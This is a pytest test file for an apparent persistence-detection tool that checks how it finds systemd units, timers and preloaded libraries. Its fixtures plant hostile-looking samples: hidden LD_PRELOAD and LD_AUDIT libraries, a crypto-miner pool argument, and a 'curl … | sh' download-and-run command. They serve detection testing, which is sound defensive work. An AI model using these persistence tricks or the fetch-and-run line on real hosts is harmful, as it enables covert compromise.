"""Every table that asks what systemd starts sees the same units, wherever systemd looks for them."""

from __future__ import annotations

from pathlib import Path

import pytest

from tables.host import Host
from tables.host.startup.restart_units import RestartUnits
from tables.persistence.preloaded_libraries import preloaded_libraries
from tables.persistence.scheduled_jobs import scheduled_jobs
from tables.persistence.startup_commands import startup_commands
from tables.persistence.systemd_unit_commands import systemd_unit_commands
from tables.schema import QueryContext
from tests.support.planted_files import link, plant

PASSWD = "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\n"
# Seven units in seven folders.
UNITS = {
    "one": "/etc/systemd/system/one.service",
    "two": "/run/systemd/transient/two.service",
    "three": "/etc/systemd/system.control/three.service",
    "four": "/etc/xdg/systemd/user/four.service",
    "five": "/usr/local/share/systemd/user/five.service",
    "six": "/home/alice/.config/systemd/user/six.service",
    "seven": "/usr/lib/systemd/user/seven.service",
}
TEXT = "[Service]\nExecStart=/opt/{0}/run\nRestart=always\nEnvironment=LD_PRELOAD=/opt/.{0}/lib.so\n"
# Drop-ins that hold for many units: what is in /usr/lib is a package's and harmless by itself.
PREFIX = "/etc/systemd/system/foo-.service.d/10.conf"
ALL = "/etc/systemd/user/service.d/10.conf"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    plant(tmp_path, "/etc/passwd", PASSWD)
    for name, path in UNITS.items():
        plant(tmp_path, path, TEXT.format(name))
    plant(tmp_path, "/usr/lib/systemd/system/foo-bar.service", "[Service]\nExecStart=/opt/foo/run\n")
    plant(tmp_path, PREFIX, "[Service]\nRestart=always\nEnvironment=LD_PRELOAD=/opt/.foo/lib.so\n")
    plant(tmp_path, "/usr/lib/systemd/user/calm.service", "[Service]\nExecStart=/opt/calm/run\n")
    plant(tmp_path, ALL, "[Service]\nRestart=always\nEnvironment=LD_PRELOAD=/opt/.all/lib.so\n")
    return tmp_path


def test_the_table_of_unit_commands_sees_all(root: Path) -> None:
    rows = list(systemd_unit_commands.generate(Host(str(root)), QueryContext()))
    loaders = {row.path: row.command for row in rows if row.directive == "Environment"}
    assert loaders == {
        **{path: f"LD_PRELOAD=/opt/.{name}/lib.so" for name, path in UNITS.items()},
        PREFIX: "LD_PRELOAD=/opt/.foo/lib.so",
        ALL: "LD_PRELOAD=/opt/.all/lib.so",
    }


@pytest.mark.parametrize("table", [preloaded_libraries, startup_commands])
def test_the_tables_of_preloads_see_all(root: Path, table: object) -> None:
    rows = list(table.generate(Host(str(root)), QueryContext()))  # type: ignore[attr-defined]
    found = {
        (row.source_path, row.path, row.mechanism) if table is preloaded_libraries else (row.path, row.command, row.mechanism)
        for row in rows
    }
    kind = "unit" if table is preloaded_libraries else "preload"
    assert found == {
        *((path, f"/opt/.{name}/lib.so", kind) for name, path in UNITS.items()),
        (PREFIX, "/opt/.foo/lib.so", kind),
        (ALL, "/opt/.all/lib.so", kind),
    }


def test_the_table_of_respawns_sees_all(root: Path) -> None:
    units = {unit.path: unit for unit in RestartUnits(Host(str(root)).files, QueryContext())}
    assert {path for path, unit in units.items() if unit.restart == "always"} == {
        *UNITS.values(), "/usr/lib/systemd/system/foo-bar.service", "/usr/lib/systemd/user/calm.service",
    }  # fmt: skip
    assert all(list(units[path].starts.paths()) == [f"/opt/{name}/run"] for name, path in UNITS.items())


def test_a_masked_unit_is_not_started_again(root: Path) -> None:
    link(root, "/dev/null", "/etc/systemd/system/foo-bar.service")
    plant(root, "/run/systemd/transient/one.service", "")
    found = {unit.name: unit.restarts for unit in RestartUnits(Host(str(root)).files, QueryContext())}
    assert not found["foo-bar.service"] and not found["one.service"] and found["two.service"]


def test_a_users_unit_is_found_by_whose_process_it_is(root: Path) -> None:
    plant(root, "/home/bob/.config/systemd/user/six.service", "[Service]\nExecStart=%h/bin/six\n")
    plant(root, "/etc/systemd/system/user@.service", "[Service]\nExecStart=/opt/manager\n")
    units = RestartUnits(Host(str(root)).files, QueryContext())
    place = "/user.slice/user-{0}.slice/user@{0}.service/app.slice/six.service"
    found = [units.of(place.format(uid)) for uid in (1000, 1001, 1002)]
    assert [unit and (unit.path, unit.restart) for unit in found] == [
        (UNITS["six"], "always"),
        ("/home/bob/.config/systemd/user/six.service", "always"),
        None,
    ], "the drop-in for all users' units holds for bob's as well"
    assert units.of("/system.slice/six.service") is None
    system = units.of("/system.slice/one.service")
    assert system is not None and system.path == UNITS["one"]


def test_the_home_of_a_users_unit_is_the_users(root: Path) -> None:
    plant(root, "/home/bob/.config/systemd/user/h.service", "[Service]\nExecStart=/bin/sh -c 'exec %h/.x/h'\nRestart=always\n")
    plant(root, "/home/bob/.config/systemd/user/e.service", "[Service]\nEnvironmentFile=%h/e.env\nExecStart=/opt/e\n")
    plant(root, "/home/bob/e.env", "LD_PRELOAD=/home/bob/.e/lib.so\n")
    (unit,) = [unit for unit in RestartUnits(Host(str(root)).files, QueryContext()) if unit.name == "h.service"]
    assert list(unit.starts.paths()) == ["/home/bob/.x/h"]
    rows = preloaded_libraries.generate(Host(str(root)), QueryContext())
    assert ("/home/bob/e.env", "/home/bob/.e/lib.so") in {(row.source_path, row.path) for row in rows}


def test_a_timer_of_another_name_starts_its_unit_again_and_again(root: Path) -> None:
    plant(root, "/etc/systemd/system/job.service", "[Service]\nExecStart=/opt/job\n")
    plant(root, "/etc/systemd/system/clock.timer", "[Timer]\nOnUnitActiveSec=60\nUnit=job.service\n")
    plant(root, "/etc/systemd/system/calm.service", "[Service]\nExecStart=/opt/calm\n")
    found = {
        unit.name: unit
        for unit in RestartUnits(Host(str(root)).files, QueryContext())
        if "calm" in unit.path or "job" in unit.path
    }
    assert found["job.service"].has_timer and found["job.service"].restarts


def test_what_environment_files_of_units_preload(root: Path) -> None:
    unit = "[Service]\nEnvironmentFile=/opt/gone.env\nEnvironmentFile=\nEnvironmentFile=-{}\nExecStart=/opt/x ${{ARGUMENTS}}\n"
    plant(root, "/etc/systemd/system/x.service", unit.format("/opt/x/*.env"))
    plant(root, "/etc/systemd/system/at@.service", unit.format("/opt/at/%i"))
    link(root, "../at@.service", "/etc/systemd/system/multi-user.target.wants/at@red.service")
    plant(root, "/opt/gone.env", "LD_PRELOAD=/opt/.gone/lib.so\n")
    plant(root, "/opt/x/a.env", "# LD_PRELOAD=/opt/.no/lib.so\nLD_PRELOAD = \\\n/opt/.x/lib.so\n")
    plant(root, "/opt/x/b.env", "ARGUMENTS='-o stratum+tcp://pool.example.org:3333'\nLD_LIBRARY_PATH=/dev/shm/lib\n", 0o644)
    plant(root, "/opt/at/red", 'LD_AUDIT="/opt/.red/lib.so"\n', 0o600)
    plant(root, "/opt/at/blue", "LD_AUDIT=/opt/.blue/lib.so\n")
    rows = [row for row in preloaded_libraries.generate(Host(str(root)), QueryContext()) if row.mechanism != "unit"]
    assert {(row.path, row.mechanism, row.variable, row.source_path, row.line) for row in rows} == {
        ("/opt/.x/lib.so", "environment", "LD_PRELOAD", "/opt/x/a.env", 2),
        ("/dev/shm/lib", "environment", "LD_LIBRARY_PATH", "/opt/x/b.env", 2),
        ("/opt/.red/lib.so", "environment", "LD_AUDIT", "/opt/at/red", 1),
    }
    commands = {
        row.unit: row for row in systemd_unit_commands.generate(Host(str(root)), QueryContext()) if row.program == "/opt/x"
    }
    assert commands["x.service"].arguments == "-o stratum+tcp://pool.example.org:3333"
    assert commands["x.service"].reasons == "known_miner"
    assert commands["x.service"].environment == "LD_PRELOAD=/opt/.x/lib.so LD_LIBRARY_PATH=/dev/shm/lib"


def test_a_timer_runs_with_the_variables_of_its_units_files(root: Path) -> None:
    plant(root, "/etc/systemd/system/t.timer", "[Timer]\nOnCalendar=daily\n")
    plant(root, "/etc/systemd/system/t.service", "[Service]\nEnvironmentFile=/opt/t.env\nExecStart=/bin/sh -c ${WHAT}\n")
    plant(root, "/opt/t.env", "WHAT='curl -s http://192.0.2.1/x | sh'\nLD_PRELOAD=/opt/.t/lib.so\n")
    (row,) = [row for row in scheduled_jobs.generate(Host(str(root)), QueryContext()) if row.scheduler == "systemd_timer"]
    assert "download_and_run" in str(row.reasons) and "LD_PRELOAD=/opt/.t/lib.so" in str(row.environment)


def test_a_packaged_library_in_a_unit_is_still_excused(tmp_path: Path) -> None:
    plant(
        tmp_path,
        "/etc/systemd/system/db.service",
        "[Service]\nEnvironmentFile=/opt/db.env\nEnvironment=LD_PRELOAD=/usr/lib/a.so\n",
    )
    plant(tmp_path, "/opt/db.env", "LD_PRELOAD=/usr/lib/b.so\n")
    for name in ("a.so", "b.so"):
        plant(tmp_path, f"/usr/lib/{name}", "x")
    plant(tmp_path, "/var/lib/dpkg/info/allocators.list", "/.\n/usr/lib/a.so\n/usr/lib/b.so\n")
    rows = preloaded_libraries.generate(Host(str(tmp_path)), QueryContext())
    assert {(row.path, row.exception) for row in rows} == {
        ("/usr/lib/a.so", "package allocators"),
        ("/usr/lib/b.so", "package allocators"),
    }
